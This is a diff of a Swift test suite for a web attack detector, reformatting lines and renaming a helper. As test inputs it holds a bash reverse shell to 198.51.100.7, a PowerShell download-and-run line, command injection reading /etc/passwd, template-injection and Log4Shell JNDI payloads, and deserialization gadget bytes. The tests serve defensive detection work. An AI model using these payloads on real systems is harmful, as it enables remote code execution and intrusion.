@@ -16,7 +16,10 @@ import Testing
         ("$(whoami)", "rce.substitution"),
         (";c''at${IFS}/etc/passwd", "rce.evasion"),
         ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "rce.reverse_shell"),
-        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "rce.powershell_encoded"),
+        (
+            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+            "rce.powershell_encoded"
+        ),
         ("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", "rce.powershell_download"),
         ("& w^h^o^a^m^i", "rce.evasion"),
     ])
@@ -40,7 +43,8 @@ import Testing
     }
 
     @Test(arguments: [
-        "{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+        "{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
+        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
         "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "<%= `id` %>", "{php}echo `id`;{/php}",
         "#set($x=$class.inspect(\"java.lang.Runtime\"))",
     ])
@@ -49,7 +53,8 @@ import Testing
     }
 
     @Test(arguments: [
-        "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+        "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}",
+        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
         "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}", "${${date:'j'}ndi:dns://x/a}",
         "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
     ])
@@ -62,10 +67,15 @@ import Testing
     @Test func deserializationBinaryMagic() {
         let context = DetectionContext(source: .body, kind: .binary, fieldName: nil, depth: 2, sensitivity: .default)
         var hits: [Hit] = []
-        let java: [UInt8] = [0xAC, 0xED, 0x00, 0x05, 0x73, 0x72] + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8)
+        let java: [UInt8] =
+            [0xAC, 0xED, 0x00, 0x05, 0x73, 0x72]
+            + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8)
         DeserializationDetector().detect(java[...], context: context, hits: &hits)
-        let pickle: [UInt8] = [0x80, 0x04, 0x95, 0x1E, 0, 0, 0, 0, 0, 0, 0, 0x8C, 0x05] + Array("posix".utf8) + [0x94, 0x8C, 0x06]
-            + Array("system".utf8) + [0x94, 0x93, 0x94, 0x8C, 0x02] + Array("id".utf8) + [0x94, 0x85, 0x94, 0x52, 0x94, 0x2E]
+        let pickle: [UInt8] =
+            [0x80, 0x04, 0x95, 0x1E, 0, 0, 0, 0, 0, 0, 0, 0x8C, 0x05] + Array("posix".utf8) + [0x94, 0x8C, 0x06]
+            + Array("system".utf8) + [0x94, 0x93, 0x94, 0x8C, 0x02] + Array("id".utf8) + [
+                0x94, 0x85, 0x94, 0x52, 0x94, 0x2E,
+            ]
         DeserializationDetector().detect(pickle[...], context: context, hits: &hits)
         #expect(hits.count == 2, "\(hits)")
         #expect(hits.allSatisfy { $0.confidence >= 0.9 }, "\(hits)")
@@ -97,7 +107,7 @@ import Testing
 @Suite struct ExecPlacementTests {
     let analyzer = Analyzer()
 
-    func hit(_ record: CaptureRecord, _ attackClass: AttackClass) -> Hit? {
+    func strongest(_ record: CaptureRecord, _ attackClass: AttackClass) -> Hit? {
         let verdict = analyzer.analyze(record).verdict
         guard verdict.attack else { return nil }
         return verdict.hits.first { $0.attackClass == attackClass && $0.confidence >= Scoring.threshold(.default) }
@@ -106,12 +116,12 @@ import Testing
     @Test func jndiInUserAgent() throws {
         let record = PlacementTests.record(
             path: "/", headers: [.init("User-Agent", "Mozilla/5.0 ${${lower:j}ndi:ldap://198.51.100.7/a}")])
-        let hit = try #require(hit(record, .jndi))
+        let hit = try #require(strongest(record, .jndi))
         #expect(hit.location == "header.user-agent", "\(hit)")
     }
 
     @Test func rceInQuery() throws {
-        let hit = try #require(hit(PlacementTests.record(path: "/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), .rce))
+        let hit = try #require(strongest(PlacementTests.record(path: "/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), .rce))
         #expect(hit.location.hasPrefix("query"), "\(hit)")
     }
 
@@ -119,7 +129,7 @@ import Testing
         let body = #"{"profile":{"nickname":"{{cycler.__init__.__globals__.os.popen('id').read()}}"}}"#
         let record = PlacementTests.record(
             path: "/v1/me", headers: [.init("content-type", "application/json")], body: body, method: "POST")
-        let hit = try #require(hit(record, .ssti))
+        let hit = try #require(strongest(record, .ssti))
         #expect(hit.location == "body.json.profile.nickname", "\(hit)")
     }
 
@@ -127,32 +137,37 @@ import Testing
         let record = PlacementTests.record(
             path: "/calc", headers: [.init("content-type", "application/x-www-form-urlencoded")],
             body: "expr=__import__('os').system('id')&x=1", method: "POST")
-        _ = try #require(hit(record, .codeInjection))
+        _ = try #require(strongest(record, .codeInjection))
     }
 
     @Test func deserializationBase64Nested() throws {
         // A Java stream, Base64-encoded, inside a JSON field.
-        let stream: [UInt8] = [0xAC, 0xED, 0x00, 0x05, 0x73, 0x72, 0x00, 0x3A] + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8)
+        let stream: [UInt8] =
+            [0xAC, 0xED, 0x00, 0x05, 0x73, 0x72, 0x00, 0x3A]
+            + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8)
         let b64 = Data(stream).base64EncodedString()
         let body = "{\"state\":\"\(b64)\"}"
         let record = PlacementTests.record(
             path: "/v1/session", headers: [.init("content-type", "application/json")], body: body, method: "POST")
-        let hit = try #require(hit(record, .deserialization))
+        let hit = try #require(strongest(record, .deserialization))
         #expect(hit.location.hasPrefix("body.json.state"), "\(hit)")
     }
 
     @Test func jndiBase64InCookie() throws {
         let inner = Data("${jndi:ldap://198.51.100.7:1389/a}".utf8).base64EncodedString()
         let record = PlacementTests.record(path: "/", headers: [.init("Cookie", "pref=\(inner)")])
-        let hit = try #require(hit(record, .jndi))
+        let hit = try #require(strongest(record, .jndi))
         #expect(hit.location.contains("base64"), "\(hit)")
     }
 
     @Test func gzipBase64NestedCommand() throws {
         // `;id` hidden in a Base64 JSON document inside a query parameter.
         let inner = Data(#"{"cmd":"127.0.0.1;cat /etc/passwd"}"#.utf8).base64EncodedString()
-        let record = PlacementTests.record(path: "/v1/run?payload=\(inner.replacingOccurrences(of: "=", with: "%3D").replacingOccurrences(of: "+", with: "%2B"))")
-        let hit = try #require(hit(record, .rce))
+        let record = PlacementTests.record(
+            path:
+                "/v1/run?payload=\(inner.replacingOccurrences(of: "=", with: "%3D").replacingOccurrences(of: "+", with: "%2B"))"
+        )
+        let hit = try #require(strongest(record, .rce))
         #expect(hit.location.contains("base64"), "\(hit)")
     }
 
@@ -178,7 +193,10 @@ import Testing
         ("1 MB of $", Array(repeating: UInt8(ascii: "$"), count: 1 << 20)),
         ("{{ x 100k", Array(String(repeating: "{{", count: 100_000).utf8)),
         ("deep ${", Array(String(repeating: "${", count: 200_000).utf8)),
-        ("deep ${ closed", Array((String(repeating: "${", count: 50_000) + String(repeating: "}", count: 50_000)).utf8)),
+        (
+            "deep ${ closed",
+            Array((String(repeating: "${", count: 50_000) + String(repeating: "}", count: 50_000)).utf8)
+        ),
         ("lookups", Array(String(repeating: "${::-j}", count: 60_000).utf8)),
         ("separators", Array(String(repeating: ";id", count: 100_000).utf8)),
         ("pipes", Array(String(repeating: "|", count: 500_000).utf8)),
@@ -221,7 +239,8 @@ import Testing
         let context = DetectionContext(source: .query, kind: .text, fieldName: nil, depth: 0, sensitivity: .default)
         var hits: [Hit] = []
         let pieces = [
-            "", "$", "${", "{{", "}}", "{%", "<%", "<#", "#set(", "`", "$(", ";", "|", "&", "\\", "'", "\"", "O:", "O:1:\"",
+            "", "$", "${", "{{", "}}", "{%", "<%", "<#", "#set(", "`", "$(", ";", "|", "&", "\\", "'", "\"", "O:",
+            "O:1:\"",
             "!!", "c", "cos\n", "rO0AB", "%x", "__", "<?", "${:-", "${::-", "${lower:", "a:1:{", "T(", "@(", "%{(", "^",
         ]
         var state: UInt64 = 7
